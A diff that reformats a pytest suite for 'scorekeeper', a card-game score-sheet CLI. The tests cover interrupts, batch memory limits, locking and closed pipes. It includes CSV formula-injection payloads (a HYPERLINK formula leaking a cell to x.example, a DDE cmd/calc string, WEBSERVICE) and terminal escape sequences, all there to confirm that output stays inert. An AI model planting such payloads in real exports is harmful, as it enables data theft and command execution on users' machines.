@@ -1,6 +1,7 @@
 """The attack suite, command-line side: Ctrl-C at any point, batches that one bad sheet cannot
 hide, a 10,000-sheet batch under a memory ceiling, and text that leaves scorekeeper inert
 (no formulas in CSV, no escape sequences on the terminal)."""
+
 import csv
 import io
 import json
@@ -53,8 +54,9 @@ launch.main()
 
 @pytest.mark.parametrize("delay", [0.0, 0.005, 0.01, 0.02, 0.03])
 def test_ctrl_c_during_start_up_or_work_exits_130_quietly(delay):
-    process = subprocess.Popen([sys.executable, "-c", ENTRY, "show", str(MESA1)], stdout=subprocess.PIPE,
-                               stderr=subprocess.PIPE)
+    process = subprocess.Popen(
+        [sys.executable, "-c", ENTRY, "show", str(MESA1)], stdout=subprocess.PIPE, stderr=subprocess.PIPE
+    )
     assert process.stderr.readline() == b"go\n"
     time.sleep(delay)
     process.send_signal(signal.SIGINT)
@@ -65,8 +67,12 @@ def test_ctrl_c_during_start_up_or_work_exits_130_quietly(delay):
 
 def record_at_its_prompt(sheet, prompt: bytes) -> subprocess.Popen:
     """`scorekeeper record SHEET` started and waiting at `prompt` (it holds the sheet's lock)."""
-    process = subprocess.Popen([*scorekeeper_command(), "record", str(sheet)], stdin=subprocess.PIPE,
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    process = subprocess.Popen(
+        [*scorekeeper_command(), "record", str(sheet)],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     deadline, seen = time.monotonic() + 20, b""
     while prompt not in seen and time.monotonic() < deadline:
         seen += os.read(process.stdout.fileno(), 4096)
@@ -88,6 +94,7 @@ def test_ctrl_c_or_sigterm_at_the_prompt_ends_quietly_and_keeps_the_sheet(tmp_pa
 
 
 # --- batches -----------------------------------------------------------------------------
+
 
 def test_one_unusable_sheet_does_not_hide_the_others(tmp_path):
     broken = write(tmp_path / "broken.yaml", "rules: king\nplayers: [A, B, C, D]\ndate: 2026-02-30\nhands: []\n")
@@ -128,14 +135,20 @@ def test_ten_thousand_sheets_are_checked_in_the_memory_of_one(tmp_path):
         path = tmp_path / f"s{i:05d}.yaml"
         path.write_text(text, encoding="utf-8")
         paths.append(str(path))
-    probe = ("import resource, subprocess, sys\n"
-             "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)\n"
-             "assert done.returncode == 0, done.returncode\n"
-             "assert done.stdout.count(b'\"valid\": true') == 10000\n"
-             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
+    probe = (
+        "import resource, subprocess, sys\n"
+        "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)\n"
+        "assert done.returncode == 0, done.returncode\n"
+        "assert done.stdout.count(b'\"valid\": true') == 10000\n"
+        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
+    )
     started = time.monotonic()
-    done = subprocess.run([sys.executable, "-c", probe, *scorekeeper_command(), "check", "--format", "json", *paths],
-                          capture_output=True, text=True, check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", probe, *scorekeeper_command(), "check", "--format", "json", *paths],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     peak_mib = int(done.stdout) / 1024  # ru_maxrss is in KiB on Linux
     assert peak_mib < 80, f"checking 10,000 sheets peaked at {peak_mib:.0f} MiB"
     assert time.monotonic() - started < 120
@@ -148,8 +161,11 @@ HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", "-A
 
 def hostile_sheet(tmp_path) -> str:
     names = ", ".join(json.dumps(n) for n in HOSTILE)
-    return write(tmp_path / "hostile.yaml", f"rules: king\nplayers: [{names}]\nevent: '=WEBSERVICE(\"x\")'\n"
-                                             "hands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n")
+    return write(
+        tmp_path / "hostile.yaml",
+        f"rules: king\nplayers: [{names}]\nevent: '=WEBSERVICE(\"x\")'\n"
+        "hands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n",
+    )
 
 
 def test_show_csv_is_inert_in_a_spreadsheet(tmp_path):
@@ -161,8 +177,10 @@ def test_show_csv_is_inert_in_a_spreadsheet(tmp_path):
 
 
 def test_check_csv_is_inert_in_a_spreadsheet(tmp_path):
-    sheet = write(tmp_path / "s.yaml", "rules: king\nplayers: [A, B, C, D]\nhands:\n"
-                                       "  - {hand: vazas, counts: {A: 3, B: 2, C: 1, '=D': 7}}\n")
+    sheet = write(
+        tmp_path / "s.yaml",
+        "rules: king\nplayers: [A, B, C, D]\nhands:\n  - {hand: vazas, counts: {A: 3, B: 2, C: 1, '=D': 7}}\n",
+    )
     result = run("check", sheet, "--format", "csv")
     assert result.exit_code == 1
     rows = list(csv.reader(io.StringIO(result.output)))
@@ -171,31 +189,60 @@ def test_check_csv_is_inert_in_a_spreadsheet(tmp_path):
 
 def test_a_name_that_looks_like_a_signed_number_is_text_in_csv(tmp_path):
     # A spreadsheet turns `-1` or `+1` into a number: a name is quoted, points stay numbers.
-    sheet = write(tmp_path / "s.yaml", 'rules: king\nplayers: ["-1", "+1", "=1", "@x"]\nhands:\n'
-                                       '  - {hand: vazas, counts: [3, 2, 1, 7]}\n'
-                                       '  - {hand: copas, counts: {"-1": 1, "+1": 1, "=1": 1}}\n')
+    sheet = write(
+        tmp_path / "s.yaml",
+        'rules: king\nplayers: ["-1", "+1", "=1", "@x"]\nhands:\n'
+        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
+        '  - {hand: copas, counts: {"-1": 1, "+1": 1, "=1": 1}}\n',
+    )
     rows = list(csv.reader(io.StringIO(run("show", sheet, "--format", "csv").output)))
     assert rows[0] == ["#", "hand", "detail", "'-1", "'+1", "'=1", "'@x", "total", "control"]
     assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]
     rows = list(csv.reader(io.StringIO(run("check", sheet, "--format", "csv").output)))
     assert [row[4] for row in rows[1:]] == ["'@x"]
-    five = write(tmp_path / "q.yaml", 'rules: quatrilho\nplayers: ["-1", "+1", "=1", "@x", "-2"]\ndeals:\n'
-                                      '  - {contract: normal, caller: "+1", partner: "=1", figuras: 22}\n')
+    five = write(
+        tmp_path / "q.yaml",
+        'rules: quatrilho\nplayers: ["-1", "+1", "=1", "@x", "-2"]\ndeals:\n'
+        '  - {contract: normal, caller: "+1", partner: "=1", figuras: 22}\n',
+    )
     rows = list(csv.reader(io.StringIO(run("show", five, "--format", "csv").output)))
     assert rows[1][:3] + rows[1][5:] == ["1", "1", "'-1", "", "+7", "+7", "-7", "-7", "0"]  # the dealer: a name
     tournament = tmp_path / "t.yaml"
-    assert run("tournament", "new", "king", "--name", "T", "--rounds", "1", *("-p", "-1", "-p", "+1", "-p", "=1"),
-               "-p", "2", "-o", tournament).exit_code == 0
+    assert (
+        run(
+            "tournament",
+            "new",
+            "king",
+            "--name",
+            "T",
+            "--rounds",
+            "1",
+            *("-p", "-1", "-p", "+1", "-p", "=1"),
+            "-p",
+            "2",
+            "-o",
+            tournament,
+        ).exit_code
+        == 0
+    )
     rows = list(csv.reader(io.StringIO(run("tournament", "standings", tournament, "--format", "csv").stdout)))
-    assert rows == [["place", "player", "points", "decided by"], ["1", "'-1", "0", "tied"], ["1", "'+1", "0", "tied"],
-                    ["1", "'=1", "0", "tied"], ["1", "'2", "0", ""]]  # WR5: the player 2 is a name
+    assert rows == [
+        ["place", "player", "points", "decided by"],
+        ["1", "'-1", "0", "tied"],
+        ["1", "'+1", "0", "tied"],
+        ["1", "'=1", "0", "tied"],
+        ["1", "'2", "0", ""],
+    ]  # WR5: the player 2 is a name
 
 
 def test_a_name_that_looks_like_a_number_is_text_in_csv_and_numbers_stay_numbers(tmp_path):
     # WR5: the players 1, 0 and 2.5 came out as 1, 0 and 2.5, numbers once a spreadsheet opens them.
-    sheet = write(tmp_path / "s.yaml", 'rules: king\nplayers: ["1", "0", "2.5", "1e3"]\nhands:\n'
-                                       '  - {hand: vazas, counts: [3, 2, 1, 7]}\n'
-                                       '  - {hand: copas, counts: {"1": 1, "0": 1, "2.5": 1}}\n')
+    sheet = write(
+        tmp_path / "s.yaml",
+        'rules: king\nplayers: ["1", "0", "2.5", "1e3"]\nhands:\n'
+        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
+        '  - {hand: copas, counts: {"1": 1, "0": 1, "2.5": 1}}\n',
+    )
     rows = list(csv.reader(io.StringIO(run("show", sheet, "--format", "csv").output)))
     assert rows[0] == ["#", "hand", "detail", "'1", "'0", "'2.5", "'1e3", "total", "control"]
     assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]
@@ -206,11 +253,19 @@ def test_a_name_that_looks_like_a_number_is_text_in_csv_and_numbers_stay_numbers
 
 def test_escape_sequences_in_what_a_sheet_says_are_shown_escaped(tmp_path):
     # A name cannot hold them (names.py: the loader refuses it in one line); a hand's name can.
-    sheet = write(tmp_path / "esc.yaml", 'rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n'
-                                         '  - {hand: vazas, counts: [3, 2, 1, 7]}\n'
-                                         '  - {hand: "A\\e[31mB\\u2028C\\x85D\\x07", counts: [1, 1, 1, 10]}\n')
-    for args in (["show", sheet], ["check", sheet], ["show", sheet, "--format", "csv"],
-                 ["check", sheet, "--format", "table"], ["record", sheet, "copas", "1", "1", "1", "10", "--force"]):
+    sheet = write(
+        tmp_path / "esc.yaml",
+        "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n"
+        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
+        '  - {hand: "A\\e[31mB\\u2028C\\x85D\\x07", counts: [1, 1, 1, 10]}\n',
+    )
+    for args in (
+        ["show", sheet],
+        ["check", sheet],
+        ["show", sheet, "--format", "csv"],
+        ["check", sheet, "--format", "table"],
+        ["record", sheet, "copas", "1", "1", "1", "10", "--force"],
+    ):
         result = run(*args)
         assert result.exit_code in (0, 1), result.output
         for raw in ("\x1b", "\u2028", "\x85", "\x07"):
@@ -218,13 +273,18 @@ def test_escape_sequences_in_what_a_sheet_says_are_shown_escaped(tmp_path):
     shown = run("show", sheet).output
     assert "A\\x1b[31mB\\u2028C\\x85D\\x07" in shown
     named = write(tmp_path / "name.yaml", 'rules: king\nplayers: ["A\\e[31mna", Bruno, Carla, Duarte]\nhands: []\n')
-    assert run("show", named).output == f"Error: {named}:2: players: the name 'A\\x1b[31mna' holds a control character\n"
+    assert (
+        run("show", named).output == f"Error: {named}:2: players: the name 'A\\x1b[31mna' holds a control character\n"
+    )
 
 
 def test_json_never_carries_raw_line_separators_or_c1_controls(tmp_path):
     # A hand's name is the sheet's own text, shown as written (a header text is refused: WR3).
-    sheet = write(tmp_path / "esc.yaml", 'rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n'
-                                         '  - {hand: "A\\u2028na B\\x85 C\\x9b D\\x7f", counts: [1, 1, 1, 10]}\n')
+    sheet = write(
+        tmp_path / "esc.yaml",
+        "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n"
+        '  - {hand: "A\\u2028na B\\x85 C\\x9b D\\x7f", counts: [1, 1, 1, 10]}\n',
+    )
     result = run("check", sheet, "--format", "json")
     assert result.exit_code == 1
     for raw in ("\u2028", "\x85", "\x9b", "\x7f"):
@@ -233,6 +293,7 @@ def test_json_never_carries_raw_line_separators_or_c1_controls(tmp_path):
 
 
 # --- every writer takes the lock -------------------------------------------------------------
+
 
 def test_new_import_and_export_with_force_wait_for_the_writer_lock(tmp_path):
     from scorekeeper.sheet.saving import writer_lock
@@ -243,8 +304,10 @@ def test_new_import_and_export_with_force_wait_for_the_writer_lock(tmp_path):
     workbook = tmp_path / "b.xlsx"
     assert run("export", "--blank", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", workbook).exit_code == 0
     with writer_lock(str(sheet)):  # a `record` is saving this sheet
-        for args in (["new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet, "--force"],
-                     ["import", workbook, "-o", sheet, "--force"]):
+        for args in (
+            ["new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet, "--force"],
+            ["import", workbook, "-o", sheet, "--force"],
+        ):
             result = run(*args)
             assert result.exit_code == 2, result.output
             assert result.output.startswith(f"Error: {sheet}: another scorekeeper is writing this file")
@@ -261,24 +324,32 @@ def test_new_import_and_export_with_force_wait_for_the_writer_lock(tmp_path):
 
 # --- a house variant through a workbook ---------------------------------------------------
 
+
 def test_a_house_variant_survives_export_and_import_with_rules_path(tmp_path):
     rules_text = RULES / "king.yaml"
     house = tmp_path / "clube.yaml"
-    house.write_text(rules_text.read_text(encoding="utf-8").replace("name: king\n", "name: king-clube\n", 1),
-                     encoding="utf-8")
-    sheet = write(tmp_path / "m.yaml", MESA1.read_text(encoding="utf-8").replace("rules: king\n", "rules: clube.yaml\n"))
+    house.write_text(
+        rules_text.read_text(encoding="utf-8").replace("name: king\n", "name: king-clube\n", 1), encoding="utf-8"
+    )
+    sheet = write(
+        tmp_path / "m.yaml", MESA1.read_text(encoding="utf-8").replace("rules: king\n", "rules: clube.yaml\n")
+    )
     workbook = tmp_path / "m.xlsx"
     assert run("export", sheet, "-o", workbook).exit_code == 0
     refused = run("check", workbook)
     assert refused.exit_code == 2
-    assert refused.output == (f"Error: {workbook}:Mesa1 R1!C3: Regras: unknown rules 'king-clube'; known: king, "
-                              "quatrilho, sueca, truco; `--rules PATH` gives a house variant\n")
+    assert refused.output == (
+        f"Error: {workbook}:Mesa1 R1!C3: Regras: unknown rules 'king-clube'; known: king, "
+        "quatrilho, sueca, truco; `--rules PATH` gives a house variant\n"
+    )
     back = tmp_path / "back.yaml"
     done = run("import", workbook, "--rules", house, "-o", back)
     assert done.output == f"Wrote {back}\n"
     assert back.read_text(encoding="utf-8").splitlines()[0] == "rules: clube.yaml"
-    assert run("check", back).output == f"{back}: clean (king-clube, complete; Ana +325, Bruno +15, Carla -285, " \
-                                        "Duarte -55)\n"
+    assert (
+        run("check", back).output == f"{back}: clean (king-clube, complete; Ana +325, Bruno +15, Carla -285, "
+        "Duarte -55)\n"
+    )
     (tmp_path / "sub").mkdir()
     elsewhere = tmp_path / "sub" / "b.yaml"
     done = run("import", workbook, "--rules", house, "-o", elsewhere)
@@ -289,13 +360,13 @@ def test_a_house_variant_survives_export_and_import_with_rules_path(tmp_path):
 def test_a_reader_that_goes_away_is_no_error():
     # `show | head -1`: the closed pipe ends the command quietly, not with "Error: ... Broken pipe".
     shell = f"{' '.join(scorekeeper_command())} show {MESA1} | head -1"
-    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, timeout=60,
-                          env={**os.environ, "COLUMNS": "80"})
+    done = subprocess.run(
+        ["bash", "-c", shell], capture_output=True, text=True, timeout=60, env={**os.environ, "COLUMNS": "80"}
+    )
     assert done.stdout.split() == ["#", "hand", "Ana", "Bruno", "Carla", "Duarte", "total", "control"]
     assert done.stderr == ""
     shell += "; exit ${PIPESTATUS[0]}"  # WR1: and ends as show ends, 0 (it was click's 1 for EPIPE)
     assert subprocess.run(["bash", "-c", shell], capture_output=True, timeout=60).returncode == 0
-
 
 
 def to_a_closed_reader(*args) -> tuple[int, str]:
@@ -304,8 +375,9 @@ def to_a_closed_reader(*args) -> tuple[int, str]:
     read_end, write_end = os.pipe()
     os.close(read_end)
     try:
-        done = subprocess.run([*scorekeeper_command(), *map(str, args)], stdout=write_end, stderr=subprocess.PIPE,
-                              text=True, timeout=60)
+        done = subprocess.run(
+            [*scorekeeper_command(), *map(str, args)], stdout=write_end, stderr=subprocess.PIPE, text=True, timeout=60
+        )
     finally:
         os.close(write_end)
     return done.returncode, done.stderr
@@ -327,30 +399,40 @@ def test_a_reader_gone_before_the_report_leaves_the_status_the_work_deserves(tmp
     assert to_a_closed_reader("undo", sheet) == (0, "")
     assert sheet.read_text(encoding="utf-8").endswith("hands:\n  - {hand: damas, counts: [1, 1, 1, 1]}\n")
 
+
 # --- what new writes, check reads back; nothing typed reaches the terminal raw -----------------
+
 
 def test_new_never_writes_a_sheet_that_check_would_refuse(tmp_path):
     sheet = tmp_path / "h.yaml"
     king = ["new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet]
     result = run(*king, "--table", "9" * 5000)  # was an internal error (Python's int digit limit)
     assert (result.exit_code, result.output) == (
-        2, f"Error: {sheet}: --table: 5,000 characters; a header holds at most 200\n")
+        2,
+        f"Error: {sheet}: --table: 5,000 characters; a header holds at most 200\n",
+    )
     assert run(*king, "--table", "9" * 20).exit_code == 0  # more digits than a score: kept as text
     assert run("check", sheet).output == f"{sheet}: clean (king, in progress, 0 hands recorded; A 0, B 0, C 0, D 0)\n"
-    for name, why in (("B\u2029C", "holds a control character"), ("C\x85D", "holds a control character"),
-                      ("F\udc9bG", "is not UTF-8 text")):  # NEL would come back as a space: another name
+    for name, why in (
+        ("B\u2029C", "holds a control character"),
+        ("C\x85D", "holds a control character"),
+        ("F\udc9bG", "is not UTF-8 text"),
+    ):  # NEL would come back as a space: another name
         other = tmp_path / "o.yaml"
         refused = run("new", "king", "-p", "A", "-p", name, "-p", "C", "-p", "D", "-o", other)
         assert refused.exit_code == 2 and why in refused.output and refused.output.count("\n") == 1, refused.output
         assert not other.exists()
 
 
-@pytest.mark.parametrize("args, message", [
-    (["king", "--event", "X\x01Y"], "event 'X\\x01Y' holds a control character"),  # said no file at all
-    (["king", "--round", "R\udcff"], "round 'R\\udcff' is not UTF-8 text"),
-    (["king", "--table", "7" * 201], "--table: 201 characters; a header holds at most 200"),
-    (["bisca"], "unknown rules 'bisca'; known: king, quatrilho, sueca, truco (or a path to a rule file)"),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (["king", "--event", "X\x01Y"], "event 'X\\x01Y' holds a control character"),  # said no file at all
+        (["king", "--round", "R\udcff"], "round 'R\\udcff' is not UTF-8 text"),
+        (["king", "--table", "7" * 201], "--table: 201 characters; a header holds at most 200"),
+        (["bisca"], "unknown rules 'bisca'; known: king, quatrilho, sueca, truco (or a path to a rule file)"),
+    ],
+)
 def test_every_refusal_of_new_names_the_sheet(tmp_path, args, message):
     sheet = tmp_path / "n.yaml"
     result = run("new", *args, "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet)
@@ -372,19 +454,24 @@ def test_fix_bounds_its_hand_number_before_reading_it(tmp_path):
     sheet = write(tmp_path / "s.yaml", MESA1.read_text(encoding="utf-8"))
     result = run("fix", sheet, "9" * 5000, "vazas", "3", "2", "1", "7")
     assert (result.exit_code, result.output) == (
-        2, f"Error: {sheet}: N, the hand to correct: a number of 5000 digits is out of range (1 or more)\n")
-    assert run("fix", sheet, "0", "vazas", "3", "2", "1", "7").output == \
-        f"Error: {sheet}: N, the hand to correct: 0 is out of range (1 or more)\n"
+        2,
+        f"Error: {sheet}: N, the hand to correct: a number of 5000 digits is out of range (1 or more)\n",
+    )
+    assert (
+        run("fix", sheet, "0", "vazas", "3", "2", "1", "7").output
+        == f"Error: {sheet}: N, the hand to correct: 0 is out of range (1 or more)\n"
+    )
 
 
 def test_an_endless_answer_is_refused_not_read(tmp_path):
     sheet = write(tmp_path / "mesa.yaml", "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands: []\n")
     started = time.monotonic()
     with open("/dev/zero", "rb") as zeros:
-        done = subprocess.run([*scorekeeper_command(), "record", sheet], stdin=zeros, capture_output=True,
-                              timeout=30)
+        done = subprocess.run([*scorekeeper_command(), "record", sheet], stdin=zeros, capture_output=True, timeout=30)
     assert time.monotonic() - started < 10
     assert done.returncode == 2
-    assert done.stderr == b"Error: standard input: an answer of more than 1,000 characters is not a hand; nothing " \
-                          b"more is read\n"
+    assert (
+        done.stderr == b"Error: standard input: an answer of more than 1,000 characters is not a hand; nothing "
+        b"more is read\n"
+    )
     assert sorted(p.name for p in tmp_path.iterdir()) == ["mesa.yaml"]
